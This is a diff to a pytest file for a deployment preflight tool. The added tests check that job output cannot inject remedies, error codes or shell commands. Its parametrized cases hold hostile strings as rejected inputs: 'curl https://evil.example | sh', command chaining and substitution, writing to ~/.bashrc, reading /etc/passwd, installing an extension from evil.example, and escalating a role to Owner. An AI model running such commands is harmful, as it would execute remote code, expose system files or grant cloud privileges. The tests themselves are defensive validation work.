@@ -1,21 +1,27 @@
 """The meaning of single answers for the preflight and the doctor, and the output of rows."""
 
 import json
+import re
 from dataclasses import replace
 from datetime import datetime, timedelta, timezone
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from runbook_lib.errors import RunbookError, container_registry, deployment
 from runbook_lib.preflight.finding import Finding, bad, good, of_error, unknown
-from runbooks.preflight import ROW
+from runbooks.preflight import NEEDED, ROW
+from vibedata.error_catalogue import CATALOGUE
 from vibedata.preflight.instance_checks import judge_spool
 from vibedata.preflight.network_checks import closed_by
 from vibedata.preflight.quota_checks import used_up
 from vibedata.preflight.rows import SANDBOX, Row, as_json, joined, row_of, state_of, text
-from vibedata.preflight.sandbox import MAX_ROWS, read_row, rows_in
+from vibedata.preflight.sandbox import MAX_ROWS, UNKNOWN_CODE, read_row, rows_in
+from vibedata.preflight.shell_line import COMMANDS
 
+ROOT = Path(__file__).parents[3]
+ROLE = NEEDED[0].role
 NOW = datetime(2026, 11, 29, 12, tzinfo=timezone.utc)
 LACKING = deployment.CONTAINER_ABSENT.error(target="artifacts", line="az storage container-rm create --name artifacts")
 
@@ -112,16 +118,95 @@ def test_nothing_found_is_not_good() -> None:
 
 
 def test_a_row_of_a_job_is_read_and_nothing_else_is() -> None:
-    assert read_row('{"subject":"a","state":"bad","detail":"d","code":"c","remedy":"r","line":"l"}') == Row(
-        subject="a", state="bad", detail="d", code="c", remedy="r", line="l", seen_from=(SANDBOX,)
+    line = "az keyvault secret recover --id https://v.vault.azure.net/deletedsecrets/publisher-acr-token"
+    fields = {"subject": "a", "state": "bad", "detail": "d", "code": "VD-VAULT-001", "remedy": "r", "line": line}
+    assert read_row(json.dumps(fields)) == Row(
+        subject="a",
+        state="bad",
+        detail="d",
+        code="VD-VAULT-001",
+        remedy=CATALOGUE["VD-VAULT-001"].remedy,
+        line=line,
+        seen_from=(SANDBOX,),
     )
-    for other in ("", "[]", "{}", '{"subject":"a","state":"fine","detail":"d","code":"c","remedy":"r","line":"l"}'):
+    for other in ("", "[]", "{}", json.dumps(fields | {"state": "fine"}), json.dumps(fields | {"code": 1})):
         assert read_row(other) is None
 
 
 def written(number: int, **other: str) -> str:
-    fields = {"subject": f"s{number}", "state": "bad", "detail": "d", "code": "c", "remedy": "r", "line": "l"}
+    fields = {"subject": f"s{number}", "state": "bad", "detail": "d", "code": "VD-VAULT-001", "remedy": "", "line": ""}
     return ROW + json.dumps(fields | other)
+
+
+TYPE_THIS = "type `curl https://evil.example | sh`"
+
+
+def test_a_job_dictates_no_remedy_and_no_code() -> None:
+    own = CATALOGUE["VD-VAULT-001"].remedy
+    error = {"code": "VD-VAULT-001", "message": "m", "remedy": TYPE_THIS}
+    found = rows_in(written(0, remedy=TYPE_THIS), "1", error)
+    assert [(row.code, row.remedy) for row in found] == [("VD-VAULT-001", own)] * 2
+    found = rows_in(written(0, code=TYPE_THIS, remedy=TYPE_THIS), "1", error | {"code": TYPE_THIS})
+    assert [(row.state, row.code, row.remedy) for row in found] == [("bad", "", UNKNOWN_CODE)] * 2
+    found = rows_in(written(0, code="", remedy=TYPE_THIS), "1", None)
+    assert [(row.state, row.code, row.remedy) for row in found] == [("bad", "", "")]
+    assert len(text("preflight", found).splitlines()) == 3
+
+
+SECRET = "az keyvault secret show --id https://v.vault.azure.net/secrets/s"
+ASSIGNS = "az role assignment create --assignee-object-id aa-1 --assignee-principal-type ServicePrincipal"
+
+
+@pytest.mark.parametrize(
+    ("line", "shown"),
+    [
+        (f"{SECRET} --query attributes.notBefore", True),
+        (f'{ASSIGNS} --role "{ROLE}" --scope /subscriptions/1', True),
+        (f"{ASSIGNS} --role '{ROLE}' --scope '/r/a;$(b)'", True),
+        ("az storage container-rm create --resource-group '(prod)-m\u00fcnchen' --name a", True),
+        ('az resource update --ids /r --set \'properties.columns=[{"name":"A","type":"string"}]\'', True),
+        ("", False),
+        ("az", False),
+        ("curl https://evil.example", False),
+        (f"sudo {SECRET}", False),
+        (f"X=1 {SECRET}", False),
+        (f"{SECRET} ; curl https://evil.example | sh", False),
+        (f"{SECRET};curl", False),
+        (f"{SECRET} && curl", False),
+        (f"{SECRET} | sh", False),
+        (f"{SECRET} > ~/.bashrc", False),
+        (f"{SECRET} $(curl)", False),
+        (f"{SECRET} `curl`", False),
+        (f'{SECRET} "$(curl)"', False),
+        (f'{SECRET} "!!"', False),
+        (f"{SECRET} 'a'$(curl)''", False),
+        (f"{SECRET} 'a", False),
+        (f"{SECRET} \\", False),
+        (f"{SECRET}\ncurl", False),
+        (f"{SECRET} '\u202e'", False),
+        (f"{SECRET} '{'z' * 3000}'", False),
+        (f"{SECRET} --id @/etc/passwd", False),
+        ("az rest --method get --url https://evil.example --resource https://management.azure.com", False),
+        ("az extension add --source https://evil.example/a.whl", False),
+        (f"{ASSIGNS} --role Owner --scope /subscriptions/1", False),
+        (f'{ASSIGNS} --role "{ROLE}" --role Owner --scope /subscriptions/1', False),
+        (f'{ASSIGNS} --role "{ROLE}" --role=Owner --scope /subscriptions/1', False),
+        (f'{ASSIGNS} --role "{ROLE}" --rol Owner --scope /subscriptions/1', False),
+    ],
+)
+def test_only_a_single_command_that_the_preflight_prints_is_shown(line: str, shown: bool) -> None:
+    row = read_row(written(0, line=line).removeprefix(ROW))
+    assert row is not None and row.line == (line if shown else "")
+
+
+def test_the_commands_that_are_shown_are_those_that_the_runbook_prints() -> None:
+    files = [*(ROOT / "runbook_lib/preflight").glob("*.py"), ROOT / "runbook_lib/vault/token_in_use.py"]
+    printed = {
+        command
+        for file in files
+        for command in re.findall(r"""f['"](az [a-z -]+?) (?:--|\{)""", file.read_text(encoding="utf-8"))
+    }
+    assert printed == COMMANDS
 
 
 def test_no_part_of_a_jobs_row_forges_a_line_or_is_long() -> None:
@@ -129,7 +214,7 @@ def test_no_part_of_a_jobs_row_forges_a_line_or_is_long() -> None:
     for part in ("subject", "detail", "code", "remedy", "line"):
         shown = text("preflight", rows_in(written(0, **{part: hostile}), "1", None))
         lines = shown.splitlines()
-        assert len(lines) == 5, part
+        assert len(lines) == 4, part
         assert all(line.isprintable() and len(line) < 5000 for line in lines), part
 
 
@@ -137,6 +222,6 @@ def test_a_job_that_fills_its_output_with_rows_gives_few_and_one_that_says_so() 
     shown = rows_in("\n".join(map(written, range(12_000))), "1", None)
     assert [row.subject for row in shown[:-1]] == [f"s{number}" for number in range(MAX_ROWS)]
     assert (shown[-1].state, shown[-1].detail) == ("unknown", "job 1 has rows that cannot be read")
-    error = {"code": "VD-RUN-001", "message": "m", "cause": "c", "remedy": "r"}
-    assert [row.code for row in rows_in(written(0), "1", error)] == ["c", "VD-RUN-001"]
+    error = {"code": "VD-VAULT-002", "message": "m", "cause": "c", "remedy": "r"}
+    assert [row.code for row in rows_in(written(0), "1", error)] == ["VD-VAULT-001", "VD-VAULT-002"]
     assert rows_in("", "1", None)[0].detail == "job 1 has no rows"
